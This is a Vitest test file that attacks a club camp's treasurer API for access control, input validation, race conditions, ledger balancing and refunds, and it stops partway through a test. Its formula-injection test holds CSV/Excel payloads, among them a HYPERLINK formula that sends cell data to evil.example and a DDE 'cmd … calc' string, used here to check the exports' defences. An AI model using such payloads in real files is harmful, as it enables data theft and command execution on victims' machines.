/**
 * The treasurer's calls under attack, as three people: a stranger on the internet (no token, or a made-up one),
 * a parent with a grudge (their own family link and registration), and a careless helper at the door (an
 * `innsjekk` token). Each test is one attack; what held is kept as a guard for the future.
 */
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { and, eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { accountsMessages, defaultChart, type ChartAnswer } from "../../shared/accounts/accounts-chart.ts";
import { sha256Hex } from "../admin-auth/password-hash.ts";
import { campRegistrations } from "../db/schema/camp.ts";
import { eventLedgerEntries, eventPayments } from "../db/schema/events-money.ts";
import { eventOrders } from "../db/schema/events-orders.ts";
import { mailOutbox } from "../db/schema/mail.ts";
import { databaseKinds } from "../test-support/database.ts";
import { campAdminToken, companion, draft, moveToEdition, postRegistration } from "../test-support/camp.ts";
import { createPublished, eventIdOf, grading, order, participant, postOrder } from "../test-support/events.ts";
import { outboxMails } from "../test-support/outbox.ts";
import { reconcile, startVippsPayment, useVippsCampSuite } from "../test-support/vipps.ts";
import { useSettlementsReader } from "./accounts-export.ts";

const linkPattern = /https:\/\/klubb\.example\/min-side\/([A-Za-z0-9_-]{43})/;
const stranger = "x".repeat(43);

type Inject = { statusCode: number; body: string; json: () => unknown; rawPayload: Buffer };

describe.each(databaseKinds)("the treasurer's calls under attack on %s", (kind) => {
  const suite = useVippsCampSuite(kind, new Date("2026-11-10T10:00:00Z"));
  const inject = (method: "GET" | "POST" | "PUT", url: string, payload?: unknown): Promise<Inject> =>
    suite.app.inject({ method, url, ...(payload === undefined ? {} : { payload: payload as object }) }) as Promise<Inject>;

  async function doorToken(admin: string): Promise<string> {
    await inject("POST", `/api/VinterleirAdmin/Accounts/${admin}`, {
      username: "dora",
      name: "Dora Dør",
      role: "innsjekk",
      password: "Dora-ved-døra-2026",
    });
    const login = await inject("GET", `/api/VinterleirAdmin/GetToken/dora/${sha256Hex("Dora-ved-døra-2026")}`);
    expect(login.statusCode).toBe(200);
    return login.body;
  }
  const tokenOf = async (registrationId: number) => {
    const [mail] = await outboxMails(suite.app, eq(mailOutbox.dedupeKey, `camp-confirmation:${registrationId}`), suite.transport);
    return linkPattern.exec(mail!.text)![1]!;
  };
  /** A card/cash registration through the form; answers its row id, order id and the family's link. */
  const cardCash = async (overrides: Parameters<typeof draft>[0] = {}) => {
    const body = draft({ email: `familie-${Math.random().toString(36).slice(2, 10)}@example.no`, ...overrides });
    const posted = await postRegistration(suite.app, body);
    expect(posted.body).toBe("Done");
    const [row] = await suite.app.db
      .select({ id: campRegistrations.id, orderId: campRegistrations.orderId })
      .from(campRegistrations)
      .where(eq(campRegistrations.draftId, body.draftId));
    return { registrationId: row!.id, orderId: row!.orderId, token: await tokenOf(row!.id) };
  };
  const ledgerOf = (registrationId: number) =>
    suite.app.db
      .select()
      .from(eventLedgerEntries)
      .where(and(eq(eventLedgerEntries.orderId, registrationId), eq(eventLedgerEntries.ownerKind, "camp")))
      // In the order written: a reused database can hand a new row an earlier place in the table.
      .orderBy(eventLedgerEntries.id);
  const moneyIn = async (registrationId: number) =>
    (await ledgerOf(registrationId)).filter((entry) => entry.kind === "payment").reduce((sum, entry) => sum + entry.amount, 0);
  const vouchers = async () =>
    (
      await suite.app.db.execute<{ number: number; entry: number | null }>(
        sql`select number, ledger_entry_id as entry from accounts_vouchers order by number`,
      )
    ).rows.map((row) => ({ number: Number(row.number), entry: row.entry === null ? null : Number(row.entry) }));
  const csvRows = (body: string) => parse(body, { delimiter: ";", bom: true, columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
  const ore = (value: string | undefined) => (value ? Math.round(Number(value.replace(",", ".")) * 100) : 0);

  // ---- «Regnskap» -------------------------------------------------------------------------------------------

  const regnskapGets = (token: string) => [
    `/api/Regnskap/Kontoplan/${token}`,
    `/api/Regnskap/Summer/2026-01-01/2026-12-31/${token}`,
    `/api/Regnskap/GetXlsx/2026-01-01/2026-12-31/${token}`,
    `/api/Regnskap/GetCsv/2026-01-01/2026-12-31/${token}`,
    `/api/Regnskap/Vipps/2026-01-01/2026-12-31/${token}`,
  ];

  it("a stranger gets 401 and the door 403 on every Regnskap call; neither numbers a voucher nor changes the chart", async () => {
    const admin = await campAdminToken(suite.app);
    const door = await doorToken(admin);
    const registration = await cardCash();
    expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: "cash" })).statusCode).toBe(200);
    const before = await vouchers();
    const changed = defaultChart.map((account) => ({ ...account, name: "Stjålet" }));
    for (const [token, status] of [
      [stranger, 401],
      [door, 403],
      ["", 404],
    ] as const) {
      for (const url of regnskapGets(token)) expect((await inject("GET", url)).statusCode, url).not.toBe(200);
      if (token !== "") for (const url of regnskapGets(token)) expect((await inject("GET", url)).statusCode, url).toBe(status);
      expect((await inject("PUT", `/api/Regnskap/Kontoplan/${token}`, { accounts: changed })).statusCode).not.toBe(200);
      expect((await inject("POST", `/api/Regnskap/VippsRead/${token}`)).statusCode).not.toBe(200);
    }
    expect((await inject("PUT", `/api/Regnskap/Kontoplan/${door}`, { accounts: changed })).statusCode).toBe(403);
    expect((await inject("POST", `/api/Regnskap/VippsRead/${door}`)).statusCode).toBe(403);
    expect((await inject("PUT", `/api/Regnskap/Kontoplan/${stranger}`, { accounts: changed })).statusCode).toBe(401);
    // A parent's family link is no treasurer's token either.
    for (const url of regnskapGets(registration.token)) expect((await inject("GET", url)).statusCode, url).toBe(401);
    expect(await vouchers()).toEqual(before);
    expect(((await inject("GET", `/api/Regnskap/Kontoplan/${admin}`)).json() as ChartAnswer).accounts).toEqual(defaultChart);
    // The camp's treasurer summary is the books too; the door keeps its list and totals (it takes money there).
    expect((await inject("GET", `/api/VinterleirAdmin/Treasurer/${door}`)).statusCode).toBe(403);
    expect((await inject("GET", `/api/VinterleirAdmin/Treasurer/${stranger}`)).statusCode).toBe(401);
    expect((await inject("GET", `/api/VinterleirAdmin/Totals/${door}`)).statusCode).toBe(200);
  });

  it("periods: reversed, impossible, malformed, far past and far future dates are refused or answered, never a 500", async () => {
    const admin = await campAdminToken(suite.app);
    for (const [from, to] of [
      ["2026-12-31", "2026-01-01"],
      ["2026-02-30", "2026-03-01"],
      ["2026-13-01", "2026-12-31"],
      ["2026-1-1", "2026-12-31"],
      ["20260101", "20261231"],
      ["2026-01-01T00:00", "2026-12-31"],
      ["-2026-01-01", "2026-12-31"],
      ["2026-01-01", "9".repeat(400)],
      ["2026-01-01%00", "2026-12-31"],
    ]) {
      for (const call of ["Summer", "GetXlsx", "GetCsv", "Vipps"]) {
        const res = await inject("GET", `/api/Regnskap/${call}/${from}/${to}/${admin}`);
        expect([400, 404, 414], `${call} ${from} ${to}: ${res.statusCode} ${res.body.slice(0, 200)}`).toContain(res.statusCode);
      }
    }
    for (const [from, to] of [
      ["0001-01-01", "0001-12-31"],
      ["9999-01-01", "9999-12-31"],
      ["1969-12-31", "1970-01-01"],
    ]) {
      for (const call of ["Summer", "GetCsv", "Vipps"]) {
        const res = await inject("GET", `/api/Regnskap/${call}/${from}/${to}/${admin}`);
        expect(res.statusCode, `${call} ${from} ${to}: ${res.body.slice(0, 200)}`).toBe(200);
      }
    }
  });

  it("a period is at most five years: 1 January 2020 to 31 December 2025 is six and is refused", async () => {
    const admin = await campAdminToken(suite.app);
    const six = await inject("GET", `/api/Regnskap/Summer/2020-01-01/2025-12-31/${admin}`);
    expect(six.statusCode).toBe(400);
    expect((six.json() as { issues: { message: string }[] }).issues.map((issue) => issue.message)).toContain(accountsMessages.periodLength);
    expect((await inject("GET", `/api/Regnskap/Summer/2020-06-15/2025-06-15/${admin}`)).statusCode).toBe(400);
    // Five whole years is allowed.
    expect((await inject("GET", `/api/Regnskap/Summer/2020-01-01/2024-12-31/${admin}`)).statusCode).toBe(200);
    expect((await inject("GET", `/api/Regnskap/Summer/2020-06-15/2025-06-14/${admin}`)).statusCode).toBe(200);
  });

  it("the chart: odd numbers, long names and junk bodies are refused; nothing is logged for a refusal", async () => {
    const admin = await campAdminToken(suite.app);
    const put = (accounts: unknown) => inject("PUT", `/api/Regnskap/Kontoplan/${admin}`, { accounts });
    const withVipps = (patch: Record<string, unknown>) =>
      defaultChart.map((account) => (account.role === "vipps" ? { ...account, ...patch } : account));
    for (const accounts of [
      withVipps({ number: "12345" }),
      withVipps({ number: "192" }),
      withVipps({ number: "-192" }),
      withVipps({ number: "1e03" }),
      withVipps({ number: "１９２５" }),
      withVipps({ number: 1925 }),
      withVipps({ name: "x".repeat(61) }),
      withVipps({ name: "" }),
      withVipps({ role: "bank" }),
      [...defaultChart, { role: "vipps", number: "1926", name: "Vipps to" }],
      [...defaultChart, { role: "kassa", number: "1926", name: "Ukjent" }],
      "all",
      null,
    ]) {
      const res = await put(accounts);
      expect(res.statusCode, JSON.stringify(accounts).slice(0, 80)).toBe(400);
    }
    expect((await inject("PUT", `/api/Regnskap/Kontoplan/${admin}`, "x".repeat(20_000))).statusCode).toBeGreaterThanOrEqual(400);
    expect(((await inject("GET", `/api/Regnskap/Kontoplan/${admin}`)).json() as ChartAnswer).changes).toEqual([]);
  });

  it("formula injection: a family's name and an account's name beginning with = + - @ are text in the CSV and the Excel file, never formulas", async () => {
    const admin = await campAdminToken(suite.app);
    const evil = ['=HYPERLINK("https://evil.example/?"&A1,"Klikk")', "+47 cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"];
    const paid = [];
    for (const [index, name] of evil.entries()) {
      const registration = await cardCash({ firstName: `Utøver${index}` });
      // Whatever the form lets through: the order's contact name is what the export names the person by.
      await suite.app.db.update(eventOrders).set({ firstName: name, lastName: "" }).where(eq(eventOrders.id, registration.registrationId));
      expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: "card" })).statusCode).toBe(
        200,
      );
      paid.push(registration);
    }
    const chart = defaultChart.map((account) => (account.role === "card" ? { ...account, name: "=1+2" } : account));
    expect((await inject("PUT", `/api/Regnskap/Kontoplan/${admin}`, { accounts: chart })).statusCode).toBe(200);

    const csv = await inject("GET", `/api/Regnskap/GetCsv/2026-11-01/2026-11-30/${admin}`);
    expect(csv.statusCode).toBe(200);
    const rows = csvRows(csv.body);
    const people = rows.map((row) => row.Person ?? "").filter((person) => person !== "");
    expect(people.length).toBeGreaterThanOrEqual(evil.length * 2);
    for (const person of people) expect(person, person).not.toMatch(/^[=+\-@\t\r]/);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row)) if (column !== "Beløp") expect(cell, `${column}: ${cell}`).not.toMatch(/^[=+@\t\r]/);

    const xlsx = await inject("GET", `/api/Regnskap/GetXlsx/2026-11-01/2026-11-30/${admin}`);
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    let texts = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
          if (typeof cell.value === "string" && /^[=+\-@\t]/.test(cell.value)) texts++;
        }),
      ),
    );
    // The names are there, as text.
    expect(texts).toBeGreaterThanOrEqual(evil.length);
  });

  it("vouchers under a race: exports, readings and new money at once give gapless numbers, each movement once, none reused", async () => {
    const admin = await campAdminToken(suite.app);
    const registrations = [];
    for (let n = 0; n < 4; n++) registrations.push(await cardCash({ firstName: `Løper${n}` }));
    const before = await vouchers();
    const export_ = (index: number) =>
      index % 3 === 0
        ? inject("GET", `/api/Regnskap/GetCsv/2026-01-01/2026-12-31/${admin}`)
        : index % 3 === 1
          ? inject("GET", `/api/Regnskap/GetXlsx/2026-11-01/2026-11-30/${admin}`)
          : inject("GET", `/api/Regnskap/Summer/2026-11-01/2026-11-30/${admin}`);
    const answers = await Promise.all([
      ...registrations.map((registration, index) =>
        inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: index % 2 ? "card" : "cash" }),
      ),
      ...Array.from({ length: 9 }, (_unused, index) => export_(index)),
    ]);
    expect(answers.map((answer) => answer.statusCode)).toEqual(answers.map(() => 200));
    // A last export numbers what the race left (a payment committed after the exports' numbering).
    expect((await inject("GET", `/api/Regnskap/GetCsv/2026-11-01/2026-11-30/${admin}`)).statusCode).toBe(200);
    const after = await vouchers();
    expect(after.slice(0, before.length)).toEqual(before);
    expect(after.map((voucher) => voucher.number)).toEqual(after.map((_voucher, index) => index + 1));
    const entries = after.flatMap((voucher) => (voucher.entry === null ? [] : [voucher.entry]));
    expect(new Set(entries).size).toBe(entries.length);
    const moving = (
      await suite.app.db.execute<{ id: number }>(
        sql`select id from event_ledger_entries where kind in ('payment', 'refund', 'refund-owed', 'refund-paid') and amount <> 0 order by id`,
      )
    ).rows.map((row) => Number(row.id));
    for (const id of moving) expect(entries).toContain(id);
    // Each export of the same period gives the same numbers again.
    const first = csvRows((await inject("GET", `/api/Regnskap/GetCsv/2026-11-01/2026-11-30/${admin}`)).body);
    const second = csvRows((await inject("GET", `/api/Regnskap/GetCsv/2026-11-01/2026-11-30/${admin}`)).body);
    expect(second).toEqual(first);
  });

  it("debit equals credit in every voucher and in all, with corrections, odd øre fees and refunds owed and paid back", async () => {
    const admin = await campAdminToken(suite.app);
    const registration = await cardCash();
    const at = new Date("2026-11-10T09:00:00Z");
    const [payment] = await suite.app.db
      .insert(eventPayments)
      .values({
        orderId: registration.registrationId,
        ownerKind: "camp",
        reference: "attack-ref-1",
        method: "vipps",
        amount: 1001,
        state: "captured",
        capturedAmount: 1001,
        refundedAmount: 0,
        paidAmount: 1001,
        createdAt: at,
        updatedAt: at,
      })
      .returning({ id: eventPayments.id });
    const entry = (values: Partial<typeof eventLedgerEntries.$inferInsert>) =>
      suite.app.db.insert(eventLedgerEntries).values({
        orderId: registration.registrationId,
        ownerKind: "camp",
        actor: "system",
        reason: "Test",
        kind: "payment",
        amount: 0,
        at,
        ...values,
      });
    await entry({ kind: "payment", method: "vipps", amount: 1001, paymentId: payment!.id });
    await entry({ kind: "payment", method: "vipps", amount: -1, paymentId: payment!.id });
    await entry({ kind: "refund", method: "vipps", amount: 333, paymentId: payment!.id });
    await entry({ kind: "payment", method: "card", amount: 7 });
    await entry({ kind: "payment", method: "card", amount: -7 });
    await entry({ kind: "refund-owed", method: "cash", amount: 13 });
    await entry({ kind: "refund-paid", method: "other", amount: 13 });
    await entry({ kind: "payment", method: "weird-method", amount: 2 });
    const restore = useSettlementsReader(async () => new Map([["attack-ref-1", { fee: 2993, payoutDate: "2026-11-12" }]]));
    try {
      for (const call of ["GetCsv", "Summer"]) {
        const res = await inject("GET", `/api/Regnskap/${call}/2026-11-10/2026-11-10/${admin}`);
        expect(res.statusCode).toBe(200);
        if (call === "Summer") {
          const answer = res.json() as { debit: number; credit: number };
          expect(answer.debit).toBe(answer.credit);
          continue;
        }
        const rows = csvRows(res.body);
        const lines = rows.filter((row) => row.Bilag !== "");
        const byVoucher = new Map<string, { debit: number; credit: number }>();
        for (const line of lines) {
          const found = byVoucher.get(line.Bilag!) ?? { debit: 0, credit: 0 };
          found.debit += ore(line.Debet);
          found.credit += ore(line.Kredit);
          byVoucher.set(line.Bilag!, found);
        }
        for (const [voucher, sums] of byVoucher) expect(sums.debit, `voucher ${voucher}`).toBe(sums.credit);
        const sum = rows.at(-1)!;
        expect(sum.Tekst).toBe("Sum");
        expect(sum.Debet).toBe(sum.Kredit);
        // The fee, 29,93 kr, once.
        expect(lines.filter((line) => line.Tekst?.startsWith("Vipps-gebyr")).map((line) => line.Debet || line.Kredit)).toEqual(["29,93", "29,93"]);
      }
    } finally {
      restore();
    }
  });

  // ---- Companion cases --------------------------------------------------------------------------------------

  const kari = companion({ firstName: "Kari", lastName: "Ledsager", telephone: "99887766" });
  const openCase = async () => {
    const a = await cardCash({ firstName: "Anne", hasLedsager: true, ledsagere: [kari] });
    const b = await cardCash({ firstName: "Bjørn", hasLedsager: true, ledsagere: [{ ...kari, id: "claim-1", alreadyRegistered: true }] });
    const admin = await campAdminToken(suite.app);
    expect((await inject("POST", `/api/MinPamelding/Cancel/${a.token}`, { person: "athlete" })).statusCode).toBe(200);
    const [open] = (await inject("GET", `/api/VinterleirAdmin/CompanionCases/${admin}`)).json() as { id: number }[];
    expect(open).toBeDefined();
    return { a, b, admin, caseId: open!.id };
  };
  const decide = (caseId: unknown, token: string, body: unknown) => inject("POST", `/api/VinterleirAdmin/CompanionCase/${caseId}/${token}`, body);

  it("companion cases: a stranger 401, the door 403, the parent's own link 401; odd bodies 400; nothing is decided", async () => {
    const { b, admin, caseId } = await openCase();
    const door = await doorToken(admin);
    const entries = (await ledgerOf(b.registrationId)).length;
    expect((await inject("GET", `/api/VinterleirAdmin/CompanionCases/${stranger}`)).statusCode).toBe(401);
    expect((await inject("GET", `/api/VinterleirAdmin/CompanionCases/${b.token}`)).statusCode).toBe(401);
    expect((await decide(caseId, stranger, { decision: "free", reason: "Fordi" })).statusCode).toBe(401);
    expect((await decide(caseId, b.token, { decision: "free", reason: "Jeg bestemmer selv" })).statusCode).toBe(401);
    expect((await decide(caseId, door, { decision: "free", reason: "Hun er grei" })).statusCode).toBe(403);
    for (const body of [
      { decision: "charge", amount: -550 },
      { decision: "free" },
      { decision: "free", reason: "x".repeat(5000) },
      { decision: ["charge", "free"] },
      { decision: "CHARGE" },
      "charge",
      [],
      null,
    ]) {
      const res = await decide(caseId, admin, body);
      expect([400, 415], JSON.stringify(body)).toContain(res.statusCode);
    }
    for (const id of ["0", "-1", "1.5", "99999999999", "1e3", "%20"])
      expect([400, 404], id).toContain((await decide(id, admin, { decision: "charge" })).statusCode);
    expect(await ledgerOf(b.registrationId)).toHaveLength(entries);
    expect((await inject("GET", `/api/VinterleirAdmin/CompanionCases/${admin}`)).json()).toHaveLength(1);
  });

  it("companion cases: charge twice in a row and four taps at once give one charge; the charged amount is the fee, never a body's", async () => {
    const { b, admin, caseId } = await openCase();
    const entries = (await ledgerOf(b.registrationId)).length;
    const answers = await Promise.all([
      decide(caseId, admin, { decision: "charge", amount: 1 }),
      decide(caseId, admin, { decision: "charge" }),
      decide(caseId, admin, { decision: "free", reason: "Kjøkkenhjelp" }),
      decide(caseId, admin, { decision: "charge" }),
    ]);
    const codes = answers.map((answer) => answer.statusCode);
    expect(codes.filter((code) => code === 200)).toHaveLength(1);
    expect(codes.filter((code) => code !== 200).every((code) => code === 409 || code === 400)).toBe(true);
    expect((await decide(caseId, admin, { decision: "charge" })).statusCode).toBe(409);
    const after = await ledgerOf(b.registrationId);
    expect(after).toHaveLength(entries + 1);
    expect([0, 550]).toContain(after.at(-1)!.amount);
  });

  it("companion cases: a case of another edition is not on this edition's list, and is decided once like any", async () => {
    const { b, admin, caseId } = await openCase();
    const copied = await inject("POST", `/api/CampEdition/Copy/2026/2025/${admin}`);
    expect([201, 409]).toContain(copied.statusCode);
    await moveToEdition(suite.database, b.registrationId, 2025);
    expect((await inject("GET", `/api/VinterleirAdmin/CompanionCases/${admin}`)).json()).toEqual([]);
    const entries = (await ledgerOf(b.registrationId)).length;
    // The leader may still settle last year's case (the leader sees every edition with ?year=), once.
    const first = await decide(caseId, admin, { decision: "free", reason: "Fjorårets sak" });
    expect(first.statusCode).toBe(200);
    expect((await decide(caseId, admin, { decision: "charge" })).statusCode).toBe(409);
    expect(await ledgerOf(b.registrationId)).toHaveLength(entries + 1);
  });

  it("companion cases: the parent cancels their own registration after the charge; the charge is not owed twice and no case reopens", async () => {
    const { b, admin, caseId } = await openCase();
    expect((await decide(caseId, admin, { decision: "charge" })).statusCode).toBe(200);
    expect((await inject("POST", `/api/MinPamelding/Cancel/${b.token}`, { person: "athlete" })).statusCode).toBe(200);
    expect((await decide(caseId, admin, { decision: "free", reason: "Etterpå" })).statusCode).toBe(409);
    expect((await inject("GET", `/api/VinterleirAdmin/CompanionCases/${admin}`)).json()).toEqual([]);
    const view = (await inject("GET", `/api/MinPamelding/Get/${b.token}`)).json() as { outstanding: number };
    expect(view.outstanding).toBe(0);
  });

  it("companion cases: the leader charges while the parent cancels that companion; the family never owes for a companion who is gone", async () => {
    const { b, admin, caseId } = await openCase();
    const view = async () => (await inject("GET", `/api/MinPamelding/Get/${b.token}`)).json() as { outstanding: number };
    const before = await view();
    const [claim] = (
      await suite.app.db.execute<{ id: number }>(sql`select id from event_positions where order_id = ${b.registrationId} and kind = 'companion'`)
    ).rows;
    const [decided, cancelled] = await Promise.all([
      decide(caseId, admin, { decision: "charge" }),
      inject("POST", `/api/MinPamelding/Cancel/${b.token}`, { person: `companion-${claim!.id}` }),
    ]);
    expect(cancelled.statusCode).toBe(200);
    expect([200, 409]).toContain(decided.statusCode);
    expect((await view()).outstanding).toBe(before.outstanding);
  });

  // ---- MarkPaid ---------------------------------------------------------------------------------------------

  it("MarkPaid: twice in a row and five at once take the money once; the door may mark, a stranger may not", async () => {
    const admin = await campAdminToken(suite.app);
    const door = await doorToken(admin);
    const registration = await cardCash();
    const url = (token: string) => `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${token}`;
    expect((await inject("POST", url(stranger), { method: "cash" })).statusCode).toBe(401);
    expect((await inject("POST", url(registration.token), { method: "cash" })).statusCode).toBe(401);
    expect(await moneyIn(registration.registrationId)).toBe(0);
    const answers = await Promise.all([
      inject("POST", url(door), { method: "cash" }),
      inject("POST", url(admin), { method: "card" }),
      inject("POST", url(door), { method: "card" }),
      inject("POST", url(admin), {}),
      inject("POST", url(door)),
    ]);
    expect(answers.map((answer) => answer.statusCode)).toEqual([200, 200, 200, 200, 200]);
    expect(answers.filter((answer) => (answer.json() as { changed: boolean }).changed)).toHaveLength(1);
    const price = (await ledgerOf(registration.registrationId))
      .filter((entry) => entry.kind === "charge")
      .reduce((sum, entry) => sum + entry.amount, 0);
    expect(await moneyIn(registration.registrationId)).toBe(price);
    const again = await inject("POST", url(admin), { method: "cash" });
    expect(again.json()).toMatchObject({ changed: false });
    expect(await moneyIn(registration.registrationId)).toBe(price);
  });

  it("MarkPaid racing the parent's own cancellation: the money is owed back in full or never taken, never twice", async () => {
    const admin = await campAdminToken(suite.app);
    const door = await doorToken(admin);
    const registration = await cardCash();
    const answers = await Promise.all([
      inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${door}`, { method: "cash" }),
      inject("POST", `/api/MinPamelding/Cancel/${registration.token}`, { person: "athlete" }),
      inject("POST", `/api/MinPamelding/Cancel/${registration.token}`, { person: "athlete" }),
      inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${door}`, { method: "card" }),
    ]);
    for (const answer of answers) expect(answer.statusCode).toBeLessThan(500);
    const entries = await ledgerOf(registration.registrationId);
    const paid = entries.filter((entry) => entry.kind === "payment").reduce((sum, entry) => sum + entry.amount, 0);
    const owedBack = entries.filter((entry) => entry.kind === "refund-owed").reduce((sum, entry) => sum + entry.amount, 0);
    const charges = entries.filter((entry) => entry.kind === "payment");
    expect(charges.length).toBeLessThanOrEqual(1);
    // Cancelled well before the camp: whatever came in goes back, once.
    expect(owedBack).toBe(paid);
    const view = (await inject("GET", `/api/MinPamelding/Get/${registration.token}`)).json() as { outstanding: number };
    expect(view.outstanding).toBe(0);
  });

  it("MarkPaid: odd bodies and ids are refused and take no money", async () => {
    const admin = await campAdminToken(suite.app);
    const registration = await cardCash();
    for (const body of [{ method: "vipps" }, { method: "CARD" }, { method: -1 }, { method: ["card"] }, { method: null }, "card", [], 42]) {
      const res = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, body);
      expect([400, 415], JSON.stringify(body)).toContain(res.statusCode);
    }
    // An amount in the body is not the treasurer's to choose: what is outstanding is what is taken.
    for (const id of ["-1", "0", "1.5", "9999999999", "abc", "999999"]) {
      const res = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${id}/${admin}`, { method: "card" });
      expect(res.statusCode, id).toBe(404);
    }
    expect(await moneyIn(registration.registrationId)).toBe(0);
    const res = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: "card", amount: -5000 });
    expect(res.statusCode).toBe(200);
    expect(await moneyIn(registration.registrationId)).toBeGreaterThan(0);
  });

  it("MarkPaid: a cancelled registration, one paid and cancelled with money owed back, and an event order's id take no money", async () => {
    const admin = await campAdminToken(suite.app);
    const cancelled = await cardCash({ firstName: "Avbestilt" });
    expect((await inject("POST", `/api/MinPamelding/Cancel/${cancelled.token}`, { person: "athlete" })).statusCode).toBe(200);
    const marked = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${cancelled.registrationId}/${admin}`, { method: "cash" });
    expect(marked.statusCode).toBe(409);
    expect(await moneyIn(cancelled.registrationId)).toBe(0);

    const refunded = await cardCash({ firstName: "Refundert" });
    expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${refunded.registrationId}/${admin}`, { method: "card" })).statusCode).toBe(200);
    const paid = await moneyIn(refunded.registrationId);
    expect((await inject("POST", `/api/VinterleirAdmin/Cancel/${refunded.registrationId}/${admin}`)).statusCode).toBe(200);
    const again = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${refunded.registrationId}/${admin}`, { method: "card" });
    expect(again.statusCode).toBe(200);
    expect(again.json()).toMatchObject({ changed: false });
    // What is owed back stays owed back: marking paid again neither takes money nor settles the refund.
    expect(
      (await ledgerOf(refunded.registrationId)).filter((entry) => entry.kind === "refund-owed").reduce((sum, entry) => sum + entry.amount, 0),
    ).toBe(paid);
    expect(await moneyIn(refunded.registrationId)).toBe(paid);

    await createPublished(suite.app, admin, "gradering-angrep", grading());
    const ordered = await postOrder(suite.app, "gradering-angrep", order({ participants: [participant()] }));
    expect(ordered.statusCode).toBeLessThan(300);
    const [eventOrder] = await suite.app.db
      .select({ id: eventOrders.id })
      .from(eventOrders)
      .where(eq(eventOrders.eventId, await eventIdOf(suite.database, "gradering-angrep")));
    const foreign = await inject("POST", `/api/VinterleirAdmin/MarkPaid/${eventOrder!.id}/${admin}`, { method: "cash" });
    expect(foreign.statusCode).toBe(404);
    const [eventMoney] = (
      await suite.app.db.execute<{ n: number }>(
        sql`select count(*)::int as n from event_ledger_entries where order_id = ${eventOrder!.id} and kind = 'payment'`,
      )
    ).rows;
    expect(Number(eventMoney!.n)).toBe(0);
  });

  it("RefundPaid: the door 403; more than owed, zero, negative and fractions refused; two at once, or the same press again, pay back once", async () => {
    const admin = await campAdminToken(suite.app);
    const door = await doorToken(admin);
    const registration = await cardCash();
    expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: "cash" })).statusCode).toBe(200);
    expect((await inject("POST", `/api/VinterleirAdmin/Cancel/${registration.registrationId}/${admin}`)).statusCode).toBe(200);
    const owed = (await ledgerOf(registration.registrationId))
      .filter((entry) => entry.kind === "refund-owed")
      .reduce((sum, entry) => sum + entry.amount, 0);
    expect(owed).toBeGreaterThan(0);
    const url = (token: string) => `/api/VinterleirAdmin/RefundPaid/${registration.registrationId}/${token}`;
    expect((await inject("POST", url(stranger), { amount: owed, owedBefore: owed })).statusCode).toBe(401);
    expect((await inject("POST", url(door), { amount: owed, owedBefore: owed })).statusCode).toBe(403);
    expect((await inject("POST", url(registration.token), { amount: owed, owedBefore: owed })).statusCode).toBe(401);
    for (const amount of [0, -owed, 0.5, "100", null])
      expect((await inject("POST", url(admin), { amount, owedBefore: owed })).statusCode, String(amount)).toBe(400);
    expect((await inject("POST", url(admin), { amount: owed + 1, owedBefore: owed })).statusCode).toBe(409);
    expect((await inject("POST", url(admin), { amount: owed, method: "vipps", owedBefore: owed })).statusCode).toBe(400);
    const answers = await Promise.all([
      inject("POST", url(admin), { amount: owed, owedBefore: owed }),
      inject("POST", url(admin), { amount: owed, owedBefore: owed }),
    ]);
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 409]);
    const paidBack = (await ledgerOf(registration.registrationId)).filter((entry) => entry.kind === "refund-paid");
    expect(paidBack.map((entry) => entry.amount)).toEqual([owed]);
  });

  it("RefundPaid in parts: each press names what it saw owed, so the same press sent again records nothing", async () => {
    const admin = await campAdminToken(suite.app);
    const registration = await cardCash();
    expect((await inject("POST", `/api/VinterleirAdmin/MarkPaid/${registration.registrationId}/${admin}`, { method: "cash" })).statusCode).toBe(200);
    expect((await inject("POST", `/api/VinterleirAdmin/Cancel/${registration.registrationId}/${admin}`)).statusCode).toBe(200);
    const owed = (await ledgerOf(registration.registrationId))
      .filter((entry) => entry.kind === "refund-owed")
      .reduce((sum, entry) => sum + entry.amount, 0);
    const url = `/api/VinterleirAdmin/RefundPaid/${registration.registrationId}/${admin}`;
    const half = Math.floor(owed / 2);
    expect((await inject("POST", url, { amount: half })).statusCode).toBe(400);
    expect((await inject("POST", url, { amount: half, owedBefore: owed })).statusCode).toBe(200);
    expect((await inject("POST", url, { amount: half, owedBefore: owed })).statusCode).toBe(409);
    expect((await inject("POST", url, { amount: owed - half, owedBefore: owed - half })).statusCode).toBe(200);
    const paidBack = (await ledgerOf(registration.registrationId)).filter((entry) => entry.kind === "refund-paid");
    expect(paidBack.map((entry) => entry.amount)).toEqual([half, owed - half]);
  });

  // ---- The event's money, and a Vipps order's state --------------------------------------------------------

  it("an event's money: a stranger 401, the door 403, an unknown or hostile slug 404, the leader's figures after a refund", async () => {
    const admin = await campAdminToken(suite.app);
    const door = await doorToken(admin);
    await createPublished(suite.app, admin, "gradering-penger", grading());
    const ordered = await postOrder(suite.app, "gradering-penger", order({ participants: [participant()] }));
    expect(ordered.statusCode).toBeLessThan(300);
